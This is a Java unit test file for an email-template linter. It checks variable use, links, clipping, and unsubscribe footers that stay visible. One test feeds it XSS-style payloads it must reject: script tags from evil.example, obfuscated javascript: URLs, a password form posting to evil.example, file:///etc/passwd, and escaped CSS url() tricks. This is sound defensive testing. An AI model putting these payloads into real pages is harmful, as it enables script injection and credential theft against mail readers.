package dev.skerry.mail.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class TemplateLintTest {

    private static final Brand BRAND =
            new Brand(
                    "Alder",
                    "https://alder.example",
                    null,
                    "#112233",
                    "#ffffff",
                    "Alder AB, Storgatan 1, 223 50 Lund");

    private static final Variables OFFER =
            Variables.of(
                    Map.of(
                            "name", "Kim",
                            "offer", "20 %",
                            "link", "https://alder.example/offer",
                            "lines", List.of(Map.of("text", "A year", "price", "100 kr")),
                            "shop", Map.of("city", "Lund")),
                    List.of("name", "shop"));

    static Stream<Arguments> defaults() {
        return DefaultTemplates.KEYS.stream()
                .flatMap(key -> DefaultTemplates.LOCALES.stream().map(it -> Arguments.of(key, it)));
    }

    @ParameterizedTest
    @MethodSource("defaults")
    void finds_nothing_in_a_default_template(String key, String locale) {
        Variables variables = DefaultTemplates.variables(key).orElseThrow();
        Template template = DefaultTemplates.find(key, locale).orElseThrow();
        assertThat(TemplateLint.findings(template, BRAND, variables)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p>{{offer}} {{site.name}} {{brand.color}}</p>",
                "<p>{{#name}}Hi {{name}}{{/name}}{{^name}}Hi{{/name}}</p>",
                "<p>{{#name}}Hi {{.}}{{/name}}</p>",
                "{{#lines}}<p>{{text}}: {{price}} {{offer}}</p>{{/lines}}",
                "{{#shop}}<p>{{city}} or {{shop.city}}</p>{{/shop}}",
                "<p>{{! said to nobody: {name} }}Hi</p>",
                "<a href=\"{{link}}\" style=\"color: {{brand.color}}\">Now</a>",
                "<a href=\"https://alder.example/?a={{offer}}\">Now</a>",
                "<a href=\"mailto:post@alder.example\">Write</a> <a href=\"tel:+46701\">Call</a>",
            })
    void finds_nothing_in_a_good_one(String html) {
        assertThat(findings(html)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '`',
            delimiter = '|',
            value = {
                "<p>{{nmae}}</p>                        | error   | unknown_variable",
                "<p>{{text}}</p>                        | error   | unknown_variable",
                "{{#lines}}{{texd}}{{/lines}}           | error   | unknown_variable",
                "<p>{{shop.town}}</p>                   | error   | unknown_variable",
                "<p>{{#vip}}Hi{{/vip}}</p>              | error   | unknown_variable",
                "<p>{{name}}</p>                        | error   | may_be_missing",
                "{{#lines}}<p>{{name}}</p>{{/lines}}    | error   | may_be_missing",
                "<a href=\"{{offer}}\">x</a>            | error   | does_not_render",
                "<p>{{#lines}}</p>                      | error   | does_not_render",
                "<p>{{{offer}}}</p>                     | error   | not_allowed",
                "<p>{{&offer}}</p>                      | error   | not_allowed",
                "<p>{{=<% %>=}}</p>                     | error   | not_allowed",
                "<p>{{>layout}}</p>                     | error   | not_allowed",
                "<a href=\"http://alder.example\">x</a> | warning | insecure_link",
                "<img src=\"https://a.example/b.png\">  | warning | image_without_alt",
            })
    void finds_what_is_wrong(String html, String severity, String code) {
        assertThat(findings(html))
                .singleElement()
                .satisfies(
                        it -> {
                            assertThat(it.severity()).isEqualTo(severity);
                            assertThat(it.code()).isEqualTo(code);
                            assertThat(it.part()).isEqualTo("html");
                        });
    }

    /** However it is spelled: what a browser would run, load or send. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>x</script>",
                "<ScRiPt src=//evil.example>",
                "<svg/onload=x>",
                "<svg><a href=\"https://a.example\">x</a></svg>",
                "<img alt=\"\" src=x onerror=x>",
                "<p\nonclick=\"x\">x</p>",
                "<a href=\"javascript:x\">x</a>",
                "<a href=\"java&#115;cript:x\">x</a>",
                "<a href=\" java\tscript:x\">x</a>",
                "<a href=\"JAVASCRIPT&colon;x\">x</a>",
                "<a href=\"data:text/html,x\">x</a>",
                "<a href=\"vbscript:x\">x</a>",
                "<a href=\"file:///etc/passwd\">x</a>",
                "<a href=\"//evil.example\">x</a>",
                "<a href=\"/relative\">x</a>",
                "<iframe srcdoc=\"x\"></iframe>",
                "<form action=\"https://evil.example\"><input name=\"password\"></form>",
                "<button formaction=\"https://evil.example\">x</button>",
                "<style>@import 'https://evil.example';</style>",
                "<link rel=\"stylesheet\" href=\"https://evil.example\">",
                "<meta http-equiv=\"refresh\" content=\"0\">",
                "<base href=\"https://evil.example\">",
                "<object data=\"x\"></object>",
                "<video src=\"https://a.example\"></video>",
                "<p style=\"background: url(https://evil.example)\">x</p>",
                "<p style=\"background: u\\rl(https://evil.example)\">x</p>",
                "<p style=\"background: \\75 rl(https://evil.example)\">x</p>",
                "<p style=\"font: '/*'; background: url(https://evil.example); font: '*/'\">x</p>",
                "<p style=\"background: ur/**/l(https://evil.example)\">x</p>",
                "<p style=\"background: image-set('https://evil.example' 1x)\">x</p>",
                "<p style=\"width: expression(x)\">x</p>",
                "<p style=\"width: expr/*\n*/ession(x)\">x</p>",
                "<p style=\"color: {{offer}}\">x</p>",
                "<p title={{offer}}>x</p>",
                "<math><mtext></mtext></math>",
                "<template><script>x</script></template>",
            })
    void refuses_html_that_does_something(String html) {
        assertThat(findings(html)).anySatisfy(it -> assertThat(it.code()).isEqualTo("not_allowed"));
    }

    /** Whatever would swallow or hide the foot of a mail, where mass mail has its way out. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p>{{offer}}</p><!-- to be continued",
                "<p>{{offer}}</p><p title=\"",
                "<p>{{offer}}</p></td></tr></table><div style=\"display: none\"><table><tr><td>",
                "<table style=\"font-size: 0\"><tr><td>{{offer}}",
            })
    void keeps_the_way_out_of_mass_mail_in_sight(String html) {
        assertThat(findings(html))
                .anySatisfy(
                        it -> {
                            assertThat(it.isError()).isTrue();
                            assertThat(it.code()).isEqualTo("missing_unsubscribe");
                        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p>{{offer}}",
                "{{offer}}",
                "<ul><li>{{offer}}</ul>",
                "<p>1 < 2 {{offer}}</p>",
                "<!-- spring --><p>{{offer}}</p>",
                // The cell of the layout ends, and with it what is open in it.
                "<div style=\"display: none\">{{offer}}",
            })
    void forgives_what_a_browser_forgives(String html) {
        assertThat(findings(html)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p title={{offer}}>x</p>",
                "<p title= {{offer}}>x</p>",
                "<p title=a{{offer}}>x</p>",
                "<p class=\"a>b\" title={{offer}}>x</p>",
                "<p class='\"' title={{offer}}>x</p>",
            })
    void asks_for_quotes_around_a_variable(String html) {
        assertThat(findings(html))
                .singleElement()
                .satisfies(it -> assertThat(it.detail()).contains("quotes"));
    }

    @Test
    void only_warns_where_nobody_has_said_what_there_is() {
        assertThat(TemplateLint.findings(offer("<p>{{who}}</p>"), BRAND, null))
                .containsExactly(
                        Finding.warning(
                                "undeclared_variable",
                                "html",
                                "{{who}} is not a variable of this template"));
    }

    @Test
    void asks_for_what_readers_wait_for_in_each_part() {
        Variables reset = DefaultTemplates.variables("reset").orElseThrow();
        Template without = new Template("reset", "en", "Reset", "<p>Hi</p>", "{{link}}");
        assertThat(TemplateLint.findings(without, BRAND, reset))
                .containsExactly(
                        Finding.error(
                                "missing_variable",
                                "html",
                                "Readers wait for {{code}} or {{link}}"));
        Template hidden =
                new Template("reset", "en", "Reset", "<p>{{link}}</p>", "{{! {{link}} }}Hi");
        assertThat(TemplateLint.findings(hidden, BRAND, reset)).isNotEmpty();
    }

    @Test
    void warns_of_what_gmail_clips_as_it_will_be_sent() {
        String row = "<p>" + "å".repeat(500) + "</p>";
        assertThat(findings(row.repeat(98))).isEmpty();
        assertThat(findings(row.repeat(99) + row.repeat(5)))
                .singleElement()
                .satisfies(it -> assertThat(it.code()).isEqualTo("clipped"));
        Variables long_ = Variables.of(Map.of("word", "x".repeat(200)), List.of());
        Template many = new Template("offer", "en", "Offer", "<p>{{word}}</p>".repeat(600), "Hi");
        assertThat(TemplateLint.findings(many, BRAND, long_))
                .singleElement()
                .satisfies(it -> assertThat(it.code()).isEqualTo("clipped"));
    }

    @Test
    void asks_who_sends_what_may_sell() {
        Brand nobody =
                new Brand("Alder", "https://alder.example", null, "#112233", "#ffffff", null);
        assertThat(TemplateLint.findings(offer("<p>Hi</p>"), nobody, OFFER))
                .extracting(Finding::severity, Finding::code)
                .containsExactly(tuple("warning", "no_sender_address"));
        Template reset = DefaultTemplates.find("reset", "en").orElseThrow();
        Variables variables = DefaultTemplates.variables("reset").orElseThrow();
        assertThat(TemplateLint.findings(reset, nobody, variables)).isEmpty();
    }

    @Test
    void looks_into_subject_and_text_too() {
        Template template = new Template("offer", "en", "{{who}}", "<p>Hi</p>", "{{whom}}");
        assertThat(TemplateLint.findings(template, BRAND, OFFER).stream().map(Finding::part))
                .containsExactly("subject", "text");
        Template long_ = new Template("offer", "en", "x".repeat(79), "<p>Hi</p>", "Hi");
        assertThat(TemplateLint.findings(long_, BRAND, OFFER).stream().map(Finding::code))
                .containsExactly("long_subject");
    }

    private static List<Finding> findings(String html) {
        return TemplateLint.findings(offer(html), BRAND, OFFER);
    }

    private static Template offer(String html) {
        return new Template("offer", "en", "Offer", html, "Offer");
    }
}
